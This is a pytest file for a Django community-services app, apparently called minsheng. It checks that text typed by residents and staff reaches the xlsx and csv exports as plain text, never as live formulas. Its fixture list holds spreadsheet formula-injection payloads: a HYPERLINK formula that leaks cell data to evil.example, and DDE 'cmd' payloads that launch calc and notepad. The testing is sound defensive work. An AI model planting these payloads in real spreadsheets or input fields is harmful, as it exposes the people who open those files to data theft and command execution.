"""Issue #17 item 3: text that residents or staff wrote never becomes a live formula in an export.

Every free-text field that reaches an xlsx or csv export gets a different malicious value (leading
= + - @, after a tab, CR, LF or full-width space). In the xlsx files the cell must be text, never a
formula, and still show exactly what was written; in the csv files no field may start with = + - @
once leading whitespace is stripped."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

# What a spreadsheet may take for the start of a formula (full-width forms included).
FORMULA_START = "=+-@＝＋－＠"

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n+1+1",
    "\u3000-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    " =cmd|'/C notepad'!A1",
    "＝1+1",
]


def values(n: int) -> list[str]:
    """n distinct malicious values (each free-text field gets its own)."""
    return [MALICIOUS[i % len(MALICIOUS)] + ("" if i < len(MALICIOUS) else f"#{i}") for i in range(n)]


def starts_like_formula(text: str) -> bool:
    head = text.lstrip().lstrip("\ufeff\u200b")
    return bool(head) and head[0] in FORMULA_START


def xlsx_cells(content: bytes) -> list:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def check_xlsx(content: bytes, planted: list[str]) -> None:
    cells = xlsx_cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for value in planted:
        assert value in texts, f"{value!r} is not shown as written"
    for c in cells:
        if isinstance(c.value, str) and starts_like_formula(c.value):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


def check_csv(raw: bytes, planted: list[str]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    bad = [f for row in rows for f in row if starts_like_formula(f)]
    assert bad == [], bad
    fields = [f for row in rows for f in row]
    for value in planted:
        assert "'" + value in fields, f"{value!r} missing"
    return rows


# --- 民情台账 -------------------------------------------------------------------------------------


def planted_demand() -> list[str]:
    from minsheng.demands import services
    from minsheng.demands.models import Demand
    from minsheng.territory.models import Community, Grid

    cailing = Community.objects.get(name="采菱社区")
    grid = Grid.objects.filter(community=cailing).order_by("id").first()
    d, _ = services.register(text="采菱家园二期12幢下水道堵塞", channel="online", reporter_name="张三",
                             reporter_phone="13812345678")
    text, place, name, phone, handler, grid_name = values(6)
    # Written straight to the row: the worst case, whatever intake strips or checks.
    Demand.objects.filter(pk=d.pk).update(text=text, place_text=place, reporter_name=name, reporter_phone=phone,
                                          handler_label=handler, community=cailing, grid=grid)
    Grid.objects.filter(pk=grid.pk).update(name=grid_name)
    return [text, place, name, phone, handler, grid_name]


def test_ledger_export_writes_every_text_as_text(user_client):
    planted = planted_demand()
    r = user_client("demo-cailing").get("/desk/collect/ledger/export.xlsx")
    assert r.status_code == 200 and r["X-Minsheng-Masked"] == "0"
    check_xlsx(b"".join(r.streaming_content), planted)


def test_masked_ledger_export_writes_every_text_as_text(user_client):
    text, place, _name, _phone, handler, grid_name = planted_demand()
    r = user_client("demo-town").get("/desk/collect/ledger/export.xlsx")
    assert r.status_code == 200 and r["X-Minsheng-Masked"] == "1"
    check_xlsx(b"".join(r.streaming_content), [text, place, handler, grid_name])


def test_ledger_export_keeps_numbers_and_dates_it_produces(user_client):
    planted_demand()
    r = user_client("demo-cailing").get("/desk/collect/ledger/export.xlsx")
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).worksheets[0]
    row = [c for c in next(ws.iter_rows(min_row=2))]
    assert row[0].value.startswith("CL-") and row[0].quotePrefix is False  # a code stays a plain cell
    assert row[1].quotePrefix is False and row[1].value[:2] == "20"  # 登记时间 as before


# --- 走访名单（花名册）----------------------------------------------------------------------------


def planted_roster():
    from minsheng.services_activities.models import Activity, Household, Member
    from minsheng.territory.models import Building, Grid

    b = Building.objects.select_related("grid__community").filter(name="采菱家园一期3幢").first()
    name, address, phone, grid_name, title = values(5)
    h = Household.objects.create(community=b.grid.community, address=address, grid=b.grid, building=b, room="101")
    Member.objects.create(household=h, name=name, birth_date=date(1931, 1, 1), phone=phone, living_alone=True)
    Grid.objects.filter(pk=b.grid.pk).update(name=grid_name)
    a = Activity.objects.create(town=b.grid.community.town, community=b.grid.community, kind="visit", title=title,
                                date=date(2026, 10, 18), criteria={"min_age": 90})
    return a, [name, address, phone, grid_name]


def test_roster_list_exports_write_every_text_as_text(user_client, bearer):
    _a, planted = planted_roster()
    r = user_client("demo-cailing").get("/desk/roster/lists/export/",
                                        {"preset": "aged90", "community": "采菱社区", "include_phone": "on"})
    assert r.status_code == 200
    check_xlsx(r.content, planted)
    r = Client().get("/api/v1/roster/targeted/export", {"community": "采菱社区", "min_age": 90,
                                                        "include_phone": "true"}, **bearer("demo-cailing"))
    assert r.status_code == 200
    check_xlsx(r.content, planted)


def test_activity_export_writes_every_text_as_text(user_client):
    from minsheng.territory.models import Community

    a, planted = planted_roster()
    community = "@" + a.community.name  # the title row starts with the community's name
    Community.objects.filter(pk=a.community_id).update(name=community)
    r = user_client("demo-cailing").get(f"/desk/activities/{a.pk}/export/", {"phone": "1"})
    assert r.status_code == 200
    check_xlsx(r.content, planted)
    title = xlsx_cells(r.content)[0]
    assert title.value.startswith(community + a.title) and title.data_type == "s" and title.quotePrefix


# --- 开放数据 -------------------------------------------------------------------------------------


def get_csv(client, dataset: str, period: str) -> bytes:
    r = client.get(f"/open-data/{dataset}/{period}.csv")
    assert r.status_code == 200
    return b"".join(r.streaming_content)


def test_open_data_csvs_write_every_text_as_text(demo_territory):
    from minsheng.demands import services
    from minsheng.projects.models import Project, WorkItem
    from minsheng.territory.models import Community, Grid, Town

    d, _ = services.register(text="采菱家园二期12幢下水道堵塞", channel="online")
    town, community, grid, title, item = values(5)
    unit = "-1+1"  # the unit field holds at most 12 characters
    Town.objects.filter(pk=d.town_id).update(name=town)
    Community.objects.filter(pk=d.community_id).update(name=community)
    if d.grid_id is None:
        d.grid = Grid.objects.filter(community_id=d.community_id).first()
        d.save(update_fields=["grid"])
    Grid.objects.filter(pk=d.grid_id).update(name=grid)
    c = Community.objects.get(pk=d.community_id)
    p = Project.objects.create(town=c.town, community=c, title=title, kind="works", status="implementing",
                               budget=Decimal("100000"), spent=Decimal("40000"), progress=Decimal("40"),
                               created_at=timezone.now())
    WorkItem.objects.create(project=p, name=item, quantity=25, unit=unit)
    client = Client()
    month, year = timezone.localdate().strftime("%Y-%m"), str(timezone.localdate().year)

    check_csv(get_csv(client, "demands", month), [town, community, grid])
    rows = check_csv(get_csv(client, "projects", year), [town, community, title])
    mine = next(r for r in rows if r[0] == "'" + title)
    assert mine[5:8] == ["100000", "40000", "40"]  # numbers the code writes stay plain numbers
    assert mine[8] == "'" + f"{item} 25 {unit}".strip()  # items_text strips the joined words
    kpis = check_csv(get_csv(client, "kpis", month), [town, community])
    assert all(not starts_like_formula(f) for r in kpis for f in r)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("\t=1+1", "'\t=1+1"), ("\u3000@x", "'\u3000@x"), ("-1+1", "'-1+1"),
    ("+86 138", "'+86 138"), ("-5", "-5"), ("0.25", "0.25"), ("采菱=1", "采菱=1"), ("", ""),
])
def test_csv_cell(value, expected):
    from minsheng.core.spreadsheet import csv_cell

    assert csv_cell(value) == expected
    assert csv_cell(3) == 3


def test_control_characters_do_not_break_the_ledger_export(user_client):
    """A pasted control character (BEL, form feed, ESC) cannot be written in XML 1.0: openpyxl refused the
    whole file and the export answered 500. The characters print nothing; they are dropped."""
    from minsheng.demands.models import Demand

    planted_demand()
    d = Demand.objects.order_by("-id").first()
    Demand.objects.filter(pk=d.pk).update(text="楼道灯坏了\x07\x0c\x1b[0m", place_text="\x01采菱家园")
    r = user_client("demo-cailing").get("/desk/collect/ledger/export.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).worksheets[0]
    texts = [str(c.value) for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert "楼道灯坏了[0m" in texts and "采菱家园" in texts
